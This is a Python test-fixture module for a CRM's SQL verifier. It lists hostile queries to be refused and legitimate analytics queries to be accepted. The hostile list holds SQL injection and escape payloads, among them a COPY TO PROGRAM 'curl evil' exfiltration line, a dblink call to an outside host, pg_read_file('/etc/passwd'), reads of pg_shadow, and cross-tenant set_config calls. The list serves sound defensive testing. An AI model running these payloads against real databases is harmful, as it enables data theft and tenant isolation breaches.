"""The Oracle verifier's corpora: hostile queries that must all be refused, and analytics
questions over the seed CRM that must all be accepted and return rows."""

from __future__ import annotations

_WRITES = [
    "DELETE FROM crm_people",
    "UPDATE crm_leads SET stage = 'WON'",
    "INSERT INTO crm_people (id, full_name) VALUES ('x', 'y')",
    "TRUNCATE crm_people",
    "DROP TABLE crm_people",
    "ALTER TABLE crm_people ADD COLUMN x int",
    "CREATE TABLE evil AS SELECT * FROM crm_people",
    "GRANT ALL ON crm_people TO PUBLIC",
    "REVOKE SELECT ON crm_people FROM velocity_oracle",
    "COPY crm_people TO '/tmp/x.csv'",
    "COPY (SELECT * FROM crm_people) TO PROGRAM 'curl evil'",
    "MERGE INTO crm_leads l USING crm_people p ON l.person_id = p.id "
    "WHEN MATCHED THEN DELETE",
    "VACUUM crm_people",
    "ANALYZE crm_people",
    "REINDEX TABLE crm_people",
    "CLUSTER crm_people",
    "LOCK TABLE crm_people IN ACCESS EXCLUSIVE MODE",
    "SET ROLE postgres",
    "RESET ROLE",
    "SET statement_timeout = 0",
    "SET LOCAL velocity.tenant_id = 't2'",
    "BEGIN",
    "COMMIT",
    "ROLLBACK",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "DO $$ BEGIN DELETE FROM crm_people; END $$",
    "CALL some_procedure()",
    "NOTIFY velocity, 'x'",
    "LISTEN velocity",
    "DISCARD ALL",
    "CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql",
    "CREATE EXTENSION dblink",
    "COMMENT ON TABLE crm_people IS 'x'",
    "EXPLAIN ANALYZE DELETE FROM crm_people",
    "EXPLAIN SELECT * FROM crm_people",
    "SHOW ALL",
    "REFRESH MATERIALIZED VIEW v",
    "SECURITY LABEL ON TABLE crm_people IS 'x'",
    "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public",
]

_HIDDEN_WRITES = [
    "WITH d AS (DELETE FROM crm_people RETURNING *) SELECT * FROM d",
    "WITH u AS (UPDATE crm_leads SET stage = 'WON' RETURNING id) SELECT count(*) FROM u",
    "WITH i AS (INSERT INTO crm_tasks (tenant_id, id, title) VALUES ('t1', 'x', 'y') "
    "RETURNING id) SELECT * FROM i",
    "WITH a AS (SELECT 1), d AS (DELETE FROM crm_leads RETURNING id) SELECT * FROM a",
    "SELECT * FROM (WITH d AS (DELETE FROM crm_people RETURNING id) SELECT * FROM d) x",
    "SELECT * INTO stolen FROM crm_people",
    "SELECT * INTO TEMP stolen FROM crm_people",
    "SELECT * FROM crm_people FOR UPDATE",
    "SELECT * FROM crm_leads FOR SHARE",
    "SELECT * FROM crm_leads FOR NO KEY UPDATE SKIP LOCKED",
    "WITH x AS (SELECT * FROM crm_people FOR UPDATE) SELECT * FROM x",
    "SELECT 1 UNION ALL SELECT count(*) FROM (WITH d AS (DELETE FROM crm_tasks RETURNING 1) "
    "SELECT * FROM d) z",
]

_STACKED = [
    "SELECT 1; DELETE FROM crm_people",
    "SELECT * FROM crm_people; DROP TABLE crm_people;",
    "SELECT 1; SELECT 2",
    "SELECT count(*) FROM crm_leads;UPDATE crm_leads SET stage='LOST'",
    "SELECT 1;\nSET ROLE postgres",
    "SELECT 1; COMMIT; DELETE FROM crm_people",
    "SELECT 1 /* comment */; TRUNCATE crm_people",
    "SELECT 1 -- comment\n; DROP TABLE crm_people",
    "SELECT 'a;b'; DELETE FROM crm_people",
    "SELECT 1;;DELETE FROM crm_people",
]

_COMMENTS_AND_QUOTING = [
    "SELECT * FROM crm_people /* ; */ WHERE 1=1; DELETE FROM crm_people",
    "/* SELECT */ DELETE FROM crm_people",
    "-- SELECT\nDELETE FROM crm_people",
    "DEL/**/ETE FROM crm_people",
    "SELECT * FROM \"hub_users\"",
    "SELECT * FROM \"Crm_People\"",
    "SELECT * FROM \"pg_catalog\".\"pg_authid\"",
    "SELECT * FROM crm_people WHERE full_name = '' OR 1=1; DROP TABLE x; --'",
    "SELECT $$; DELETE FROM crm_people; $$ ; DELETE FROM crm_people",
    "SELECT E'\\''; DELETE FROM crm_people; --'",
    "SELECT * FROM U&\"crm_people\"",
    "SELECT * FROM U&\"\\0068ub_users\"",
    "SELECT 1 FROM crm_people WHERE id = $1",
    "SELECT * FROM crm_people WHERE id = :id",
    "SELECT \"pg_sleep\"(5)",
    "SELECT PG_SLEEP(5)",
    "SELECT pg_catalog.pg_sleep(5)",
    "SELECT * FROM crm_people\x00; DELETE FROM crm_people",
    "",
    "   ",
    "not sql at all",
    "SELECT * FROM",
]

_FUNCTIONS = [
    "SELECT pg_sleep(10)",
    "SELECT pg_sleep_for('10 seconds')",
    "SELECT * FROM crm_people WHERE pg_sleep(1) IS NOT NULL",
    "SELECT * FROM crm_people a, LATERAL (SELECT pg_sleep(1)) b",
    "SELECT dblink('host=evil', 'SELECT 1')",
    "SELECT * FROM dblink('dbname=postgres', 'SELECT * FROM hub_users') AS t(a text)",
    "SELECT dblink_exec('dbname=postgres', 'DROP TABLE crm_people')",
    "SELECT set_config('velocity.tenant_id', 't2', true)",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT current_setting('velocity.tenant_id')",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT pg_ls_dir('.')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1234, '/tmp/x')",
    "SELECT lo_get(1234)",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_cancel_backend(1)",
    "SELECT pg_reload_conf()",
    "SELECT query_to_xml('DELETE FROM crm_people RETURNING 1', true, true, '')",
    "SELECT table_to_xml('hub_users', true, true, '')",
    "SELECT xpath('/a', '<a/>')",
    "SELECT txid_current()",
    "SELECT nextval('seq')",
    "SELECT setval('seq', 1)",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_notify('velocity', 'x')",
    "SELECT version()",
    "SELECT current_user",
    "SELECT inet_server_addr()",
    "SELECT * FROM generate_series(1, 1000000000)",
    "SELECT * FROM pg_stat_activity",
    "SELECT evil_udf(full_name) FROM crm_people",
    "SELECT 'crm_people'::regclass",
    "SELECT full_name::regproc FROM crm_people",
    "SELECT pg_backend_pid()",
    "SELECT pg_export_snapshot()",
    "SELECT count(*) FROM crm_people WHERE length(pg_read_file('/etc/hostname')) > 0",
    "WITH x AS (SELECT pg_sleep(1)) SELECT * FROM x",
    "SELECT (SELECT set_config('velocity.manager', 'on', true)), * FROM crm_leads",
]

_OTHER_TABLES = [
    "SELECT * FROM hub_users",
    "SELECT * FROM hub_documents",
    "SELECT * FROM hub_log",
    "SELECT * FROM hub_settings",
    "SELECT * FROM gpu_llm_usage",
    "SELECT * FROM oracle_canvas_pages",
    "SELECT * FROM pg_catalog.pg_authid",
    "SELECT * FROM pg_shadow",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM public.hub_users",
    "SELECT * FROM otherdb.public.crm_people",
    "SELECT p.* FROM crm_people p JOIN hub_users u ON u.user_id = p.owner_id",
    "SELECT * FROM crm_people WHERE owner_id IN (SELECT user_id FROM hub_users)",
    "SELECT * FROM (WITH hub_users AS (SELECT 1) SELECT 1) x, hub_users",
]

_OTHER_TENANTS = [
    "SELECT * FROM crm_people WHERE tenant_id = 't2'",
    "SELECT * FROM crm_people WHERE tenant_id <> 't1'",
    "SELECT tenant_id, count(*) FROM crm_people GROUP BY tenant_id",
    "SELECT * FROM crm_people p WHERE p.tenant_id IS NOT NULL",
    "SELECT * FROM crm_leads WHERE \"tenant_id\" = 't2'",
    "SELECT * FROM crm_people ORDER BY tenant_id",
    "SELECT * FROM crm_people AS tenant_id",
    "SELECT l.* FROM crm_leads l JOIN crm_people p ON p.tenant_id = l.tenant_id",
    "SELECT count(*) AS tenant_id FROM crm_people",
    "SELECT * FROM crm_people WHERE TENANT_ID = 't2'",
]

HOSTILE: list[str] = (
    _WRITES + _HIDDEN_WRITES + _STACKED + _COMMENTS_AND_QUOTING + _FUNCTIONS + _OTHER_TABLES
    + _OTHER_TENANTS
)

LEGITIMATE: list[str] = [
    "SELECT count(*) AS people FROM crm_people",
    "SELECT segment, count(*) AS people FROM crm_people GROUP BY segment ORDER BY people DESC",
    "SELECT city, count(*) AS people FROM crm_people GROUP BY city ORDER BY 2 DESC",
    "SELECT stage, count(*) AS leads FROM crm_leads GROUP BY stage ORDER BY leads DESC",
    "SELECT source, count(*) AS leads FROM crm_leads GROUP BY source",
    "SELECT full_name, city FROM crm_people WHERE segment = 'whale' ORDER BY full_name",
    "SELECT p.full_name, l.stage, l.budget_max FROM crm_leads l JOIN crm_people p "
    "ON p.id = l.person_id ORDER BY l.budget_max DESC LIMIT 10",
    "SELECT date_trunc('week', occurred_at) AS week, count(*) AS interactions "
    "FROM crm_interactions GROUP BY 1 ORDER BY 1",
    "SELECT kind, count(*) AS n FROM crm_interactions GROUP BY kind",
    "SELECT channel, avg(duration_s) AS avg_seconds FROM crm_interactions "
    "WHERE duration_s IS NOT NULL GROUP BY channel",
    "SELECT avg(score) AS avg_qd FROM intel_qd_scores",
    "SELECT max(score) AS best_qd FROM intel_qd_scores",
    "SELECT p.full_name, max(q.score) AS qd FROM intel_qd_scores q JOIN crm_people p "
    "ON p.id = q.person_id GROUP BY p.full_name ORDER BY qd DESC LIMIT 20",
    "SELECT i.name AS project, count(*) AS leads FROM crm_leads l JOIN inventory_projects i "
    "ON i.id = l.project_id GROUP BY i.name ORDER BY leads DESC",
    "SELECT status, count(*) AS units FROM inventory_units GROUP BY status",
    "SELECT configuration, round(avg(price)::numeric, 0) AS avg_price FROM inventory_units "
    "GROUP BY configuration ORDER BY avg_price",
    "SELECT configuration, min(price) AS min_price, max(price) AS max_price "
    "FROM inventory_units GROUP BY configuration",
    "SELECT pr.name, count(u.id) AS available FROM inventory_projects pr JOIN inventory_units u "
    "ON u.project_id = pr.id WHERE u.status = 'AVAILABLE' GROUP BY pr.name",
    "SELECT sum(price) / 1e7 AS inventory_crore FROM inventory_units "
    "WHERE status = 'AVAILABLE'",
    "SELECT stage, sum(value) AS pipeline_value FROM crm_opportunities GROUP BY stage",
    "SELECT count(*) AS open_deals FROM crm_opportunities WHERE stage NOT IN "
    "('CLOSED_WON', 'CLOSED_LOST')",
    "SELECT sum(value * probability) AS weighted_pipeline FROM crm_opportunities",
    "SELECT to_stage, count(*) AS transitions FROM crm_stage_history GROUP BY to_stage",
    "SELECT date_trunc('month', changed_at) AS month, count(*) AS changes "
    "FROM crm_stage_history GROUP BY 1 ORDER BY 1",
    "SELECT kind, count(*) AS facts FROM intel_extracted_facts GROUP BY kind",
    "SELECT value AS objection, count(*) AS times FROM intel_extracted_facts "
    "WHERE kind = 'objection' GROUP BY value ORDER BY times DESC",
    "SELECT status, count(*) AS tasks FROM crm_tasks GROUP BY status",
    "SELECT priority, count(*) AS tasks FROM crm_tasks GROUP BY priority ORDER BY priority",
    "SELECT title, due_at FROM crm_tasks WHERE status = 'OPEN' ORDER BY due_at LIMIT 25",
    "SELECT owner_id, count(*) AS leads FROM crm_leads GROUP BY owner_id ORDER BY leads DESC",
    "SELECT kind, count(*) AS links FROM crm_relationships GROUP BY kind",
    "SELECT count(*) AS households FROM crm_households",
    "SELECT kind, count(*) AS accounts FROM crm_accounts GROUP BY kind",
    "SELECT configuration, avg(level) AS interest FROM crm_property_interests "
    "GROUP BY configuration",
    "WITH latest AS (SELECT person_id, max(occurred_at) AS last_contact FROM crm_interactions "
    "GROUP BY person_id) SELECT p.full_name, latest.last_contact FROM latest JOIN crm_people p "
    "ON p.id = latest.person_id ORDER BY latest.last_contact DESC LIMIT 15",
    "WITH won AS (SELECT count(*) AS n FROM crm_leads WHERE stage = 'WON'), "
    "total AS (SELECT count(*) AS n FROM crm_leads) "
    "SELECT round(100.0 * won.n / NULLIF(total.n, 0), 1) AS win_rate FROM won, total",
    "SELECT p.segment, avg(l.budget_max) / 1e7 AS avg_budget_cr FROM crm_leads l "
    "JOIN crm_people p ON p.id = l.person_id GROUP BY p.segment ORDER BY 2 DESC",
    "SELECT p.full_name, l.last_qd FROM crm_leads l JOIN crm_people p ON p.id = l.person_id "
    "WHERE l.last_qd IS NOT NULL AND l.last_qd < 60 ORDER BY l.last_qd",
    "SELECT stage, count(*) FILTER (WHERE last_qd >= 60) AS hot, count(*) AS total "
    "FROM crm_leads GROUP BY stage",
    "SELECT CASE WHEN budget_max >= 1e8 THEN '10 Cr+' ELSE 'under 10 Cr' END AS band, "
    "count(*) AS leads FROM crm_leads GROUP BY 1",
    "SELECT direction, count(*) AS n FROM crm_interactions GROUP BY direction",
    "SELECT extract(dow FROM occurred_at) AS weekday, count(*) AS n FROM crm_interactions "
    "GROUP BY 1 ORDER BY 1",
    "SELECT summary, occurred_at FROM crm_interactions ORDER BY occurred_at DESC LIMIT 20",
    "SELECT lower(country) AS country, count(*) AS people FROM crm_people GROUP BY 1",
    "SELECT tag, count(*) AS people FROM crm_people, jsonb_array_elements_text(tags) AS tag "
    "GROUP BY tag",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY budget_max) AS median_budget "
    "FROM crm_leads",
    "SELECT full_name, row_number() OVER (ORDER BY full_name) AS n FROM crm_people LIMIT 10",
    "SELECT l.stage, round(avg(q.score), 1) AS avg_qd FROM intel_qd_scores q JOIN crm_leads l "
    "ON l.id = q.lead_id GROUP BY l.stage",
    "SELECT p.city, count(DISTINCT l.id) AS leads FROM crm_people p JOIN crm_leads l "
    "ON l.person_id = p.id GROUP BY p.city HAVING count(DISTINCT l.id) > 0",
    "SELECT count(*) AS sold FROM inventory_units WHERE status IN ('SOLD', 'BOOKED')",
    "SELECT floor, avg(price) AS avg_price FROM inventory_units GROUP BY floor ORDER BY floor",
    "SELECT coalesce(timeline, 'unknown') AS timeline, count(*) AS leads FROM crm_leads "
    "GROUP BY 1",
    "SELECT p.full_name FROM crm_people p WHERE EXISTS (SELECT 1 FROM crm_opportunities o "
    "WHERE o.person_id = p.id)",
    "SELECT * FROM crm_people ORDER BY created_at LIMIT 5",
    "SELECT stage, count(*) AS leads FROM crm_leads GROUP BY stage UNION ALL "
    "SELECT 'ALL', count(*) FROM crm_leads",
]
